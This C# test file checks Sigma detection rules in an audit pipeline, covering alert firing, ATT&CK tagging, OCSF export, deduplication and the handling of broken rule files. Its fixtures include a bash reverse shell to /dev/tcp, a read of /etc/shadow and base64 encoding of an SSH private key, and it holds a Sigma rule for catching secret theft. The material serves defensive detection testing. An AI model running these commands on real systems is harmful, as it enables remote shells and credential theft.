using System.Net.Http.Json;
using System.Text.Json.Nodes;
using Gatehouse.Audit.Alerts;
using Gatehouse.Audit.Tests.EventPipeline;
using Gatehouse.Contracts;
using Gatehouse.TestSupport;
using MassTransit;
using Microsoft.AspNetCore.Mvc.Testing;
using Microsoft.Extensions.DependencyInjection;
using Microsoft.Extensions.Logging;
using static Gatehouse.Audit.Tests.Detection.Sigma.SigmaScenarios;

namespace Gatehouse.Audit.Tests.Alerts;

/// <summary>
/// Sigma rules in the real pipeline: an operator's rule file in the configured folder and a shipped rule fire on events a
/// producing service appends, their near misses stay quiet, and the alerts carry the rule's level, id and ATT&amp;CK tags
/// to the API and the OCSF finding export. A broken rule file stops the service at start, naming the file and line.
/// </summary>
[Collection(AnAuditStoreFedByAProducerCollection.Name)]
public sealed class When_sigma_rules_run_through_the_pipeline(AnAuditStoreFedByAProducer pipeline)
{
    private const string OperatorRule = """
        title: Secrets read in a session
        id: e2707ecd-0933-4229-86e3-003ea2e56e88
        name: secrets-read
        tags:
          - attack.credential-access
          - attack.t1552.001
          - attack.t1003.008
        logsource:
          product: gatehouse
          category: ssh_command
        detection:
          selection_shadow:
            Command|contains|all:
              - '/etc/'
              - 'shadow'
          selection_private_keys:
            Program: [cat, base64, xxd, cp, scp]
            Arguments|endswith: [id_rsa, id_ecdsa, id_ed25519]
          condition: 1 of selection_*
        level: high
        """;

    private static string NewName(string name) => $"{name}-{Guid.NewGuid():N}"[..22];

    [Fact]
    public async Task Should_fire_an_operators_rule_and_a_shipped_rule_on_their_scenarios_and_not_on_near_misses()
    {
        var folder = Directory.CreateTempSubdirectory("gatehouse-sigma-").FullName;
        await System.IO.File.WriteAllTextAsync(Path.Combine(folder, "secrets_read.yml"), OperatorRule);
        await pipeline.StopAuditAsync();
        var audit = AuditService.Start(pipeline.AuditSchema, new Dictionary<string, string?> { ["Gatehouse:Audit:Detection:Sigma:RulesFolder"] = folder });
        try
        {
            var scenario = Guid.NewGuid().ToString();
            var (shadow, keys, quiet, shell, shellQuiet) = (NewName("shadow"), NewName("keys"), NewName("quiet"), NewName("shell"), NewName("shellq"));
            CommandExecuted Typed(string user, string line) => Command(line, user) with { CorrelationId = scenario, EventId = Guid.CreateVersion7(), OccurredAt = DateTimeOffset.UtcNow };
            IAccessEvent[] events =
            [
                Typed(shadow, "sudo -u root cat /etc/shadow"),
                Typed(keys, "base64 /home/deploy/.ssh/id_ed25519"),
                Typed(quiet, "cat /etc/hosts"),
                Typed(quiet, "grep shadow notes.txt"),
                Typed(quiet, "cat /home/deploy/.ssh/id_ed25519.pub"),
                Typed(shell, "bash -i >& /dev/tcp/203.0.113.9/4444 0>&1"),
                Typed(shellQuiet, "nc -zv db01 5432"),
            ];
            await pipeline.Producer.AppendAsync(events);

            using var client = audit.Analyst();
            async Task<IReadOnlyList<AlertView>> Alerts(string rule) =>
                (await client.GetFromJsonAsync<IReadOnlyList<AlertView>>($"/api/audit/alerts?rule={Uri.EscapeDataString(rule)}&limit=500", AuditService.Json))!;

            var deadline = DateTime.UtcNow.AddSeconds(90);
            IReadOnlyList<AlertView> secrets = [], shells = [];
            while (DateTime.UtcNow < deadline)
            {
                secrets = await Alerts("sigma:secrets-read");
                shells = await Alerts("sigma:reverse-shell");
                if (secrets.Any(a => a.UserName == shadow) && secrets.Any(a => a.UserName == keys) && shells.Any(a => a.UserName == shell))
                {
                    break;
                }

                await Task.Delay(250);
            }

            // Every event of the scenario has been through the rules once the last one's alert is there: the store keeps
            // one producer's events in order.
            Assert.Single(secrets, a => a.UserName == shadow);
            Assert.Single(secrets, a => a.UserName == keys);
            Assert.Single(shells, a => a.UserName == shell);
            Assert.DoesNotContain(secrets, a => a.UserName == quiet);
            Assert.DoesNotContain(shells, a => a.UserName == shellQuiet);

            var alert = secrets.Single(a => a.UserName == shadow);
            Assert.Equal((Gatehouse.Contracts.Alerts.AlertSeverity.High, "e2707ecd-0933-4229-86e3-003ea2e56e88", "web01"),
                (alert.Severity, alert.RuleId, alert.Target));
            Assert.Equal(["attack.credential-access", "attack.t1552.001", "attack.t1003.008"], alert.Tags);
            Assert.Contains("Secrets read in a session", alert.Title);
            Assert.Equal(Gatehouse.Contracts.Alerts.AlertSeverity.Critical, shells.Single(a => a.UserName == shell).Severity);

            var from = Uri.EscapeDataString(alert.RaisedAt.AddSeconds(-1).ToString("O"));
            var finding = (await client.GetStringAsync($"/api/audit/alerts/export?from={from}"))
                .Split('\n', StringSplitOptions.RemoveEmptyEntries).Select(line => JsonNode.Parse(line)!.AsObject())
                .Single(f => f["finding_info"]!["uid"]!.ToString() == alert.Id.ToString());
            Assert.Empty(Soc.Exporting.Ocsf13.Problems(finding));
            Assert.Equal("e2707ecd-0933-4229-86e3-003ea2e56e88", finding["finding_info"]!["analytic"]!["uid"]!.ToString());
            var attacks = finding["finding_info"]!["attacks"]!.AsArray();
            Assert.Contains(attacks, a => a!["tactic"]?["uid"]?.ToString() == "TA0006");
            Assert.Contains(attacks, a => a!["technique"]?["uid"]?.ToString() == "T1552" && a["sub_technique"]?["uid"]?.ToString() == "T1552.001");
        }
        finally
        {
            await audit.DisposeAsync();
            await pipeline.StartAuditAsync();
            Directory.Delete(folder, recursive: true);
        }
    }
}

/// <summary>The built-in rules' guarantees hold for Sigma rules: a second Audit instance and a redelivered event raise no second alert.</summary>
[Collection(AnAuditStoreFedByAProducerCollection.Name)]
public sealed class SigmaAlertsAreRaisedOnce(AnAuditStoreFedByAProducer pipeline)
{
    private static string NewName(string name) => $"{name}-{Guid.NewGuid():N}"[..22];

    private static CommandExecuted ReverseShell(string user) =>
        Command("bash -i >& /dev/tcp/203.0.113.9/4444 0>&1", user) with
        {
            CorrelationId = Guid.NewGuid().ToString(), EventId = Guid.CreateVersion7(), OccurredAt = DateTimeOffset.UtcNow,
        };

    private async Task<IReadOnlyList<AlertView>> AlertsAsync(string user)
    {
        using var client = pipeline.Audit.Analyst();
        return (await client.GetFromJsonAsync<IReadOnlyList<AlertView>>($"/api/audit/alerts?user={user}&rule=sigma%3Areverse-shell", AuditService.Json))!;
    }

    private async Task<IReadOnlyList<AlertView>> WaitForAlertAsync(string user)
    {
        var deadline = DateTime.UtcNow.AddSeconds(90);
        var alerts = await AlertsAsync(user);
        while (alerts.Count == 0 && DateTime.UtcNow < deadline)
        {
            await Task.Delay(250);
            alerts = await AlertsAsync(user);
        }

        return alerts;
    }

    [Fact]
    public async Task Should_raise_each_sigma_alert_once_with_two_audit_instances_and_the_events_delivered_again()
    {
        await using var second = pipeline.StartAnotherAudit();
        var users = Enumerable.Range(0, 3).Select(_ => NewName("mallory")).ToList();
        var commands = users.Select(ReverseShell).ToList();
        await pipeline.Producer.AppendAsync(commands);
        foreach (var user in users)
        {
            Assert.Single(await WaitForAlertAsync(user));
        }

        foreach (var command in commands)
        {
            await pipeline.Producer.Bus.Publish(command, context => context.MessageId = command.EventId);
        }

        // Once a later event's alert is there, the redelivered copies have been through the store and the rules.
        var sentinel = NewName("sentinel");
        await pipeline.Producer.AppendAsync([ReverseShell(sentinel)]);
        Assert.Single(await WaitForAlertAsync(sentinel));
        foreach (var user in users)
        {
            Assert.Single(await AlertsAsync(user));
        }
    }
}

/// <summary>A broken rule file stops the Audit service at start with its name, line and reason, in the exception and the log.</summary>
public sealed class A_broken_sigma_rule_stops_the_audit_service : IAsyncLifetime
{
    private readonly string _schema = Infrastructure.UniqueSchema("audit_sigma");
    private readonly string _folder = Directory.CreateTempSubdirectory("gatehouse-sigma-").FullName;

    public Task InitializeAsync() => Task.CompletedTask;

    public async Task DisposeAsync()
    {
        await Infrastructure.DropSchemaAsync(_schema);
        Directory.Delete(_folder, recursive: true);
    }

    [Fact]
    public async Task Should_not_start_the_service_and_name_the_file_and_line()
    {
        var file = Path.Combine(_folder, "reverse_shell_local.yml");
        await System.IO.File.WriteAllTextAsync(file, RuleText("ssh_command", "  selection:\n    Image|endswith: '/nc'\n  condition: selection"));
        var log = new CapturedLog();

        var failure = Record.Exception(() =>
        {
            using var audit = AuditService.Start(_schema, new Dictionary<string, string?> { ["Gatehouse:Audit:Detection:Sigma:RulesFolder"] = _folder },
                services => services.AddSingleton<ILoggerProvider>(log));
        });

        Assert.NotNull(failure);
        var refused = Assert.IsType<Gatehouse.Audit.Detection.Sigma.SigmaRulesRefused>(failure.GetBaseException());
        Assert.Contains($"{file}:10: 'Image' is not a field of gatehouse/ssh_command", refused.Message);
        Assert.Contains(log.Entries, e => e.Level == LogLevel.Critical && e.Text.Contains($"{file}:10:"));
    }

    [Fact]
    public void Should_not_start_it_either_on_a_configured_folder_that_does_not_exist()
    {
        var missing = Path.Combine(_folder, "not-there");

        var failure = Record.Exception(() =>
        {
            using var audit = AuditService.Start(_schema, new Dictionary<string, string?> { ["Gatehouse:Audit:Detection:Sigma:RulesFolder"] = missing });
        });

        Assert.Contains($"{missing}: the Sigma rule folder does not exist", failure?.GetBaseException().Message);
    }
}
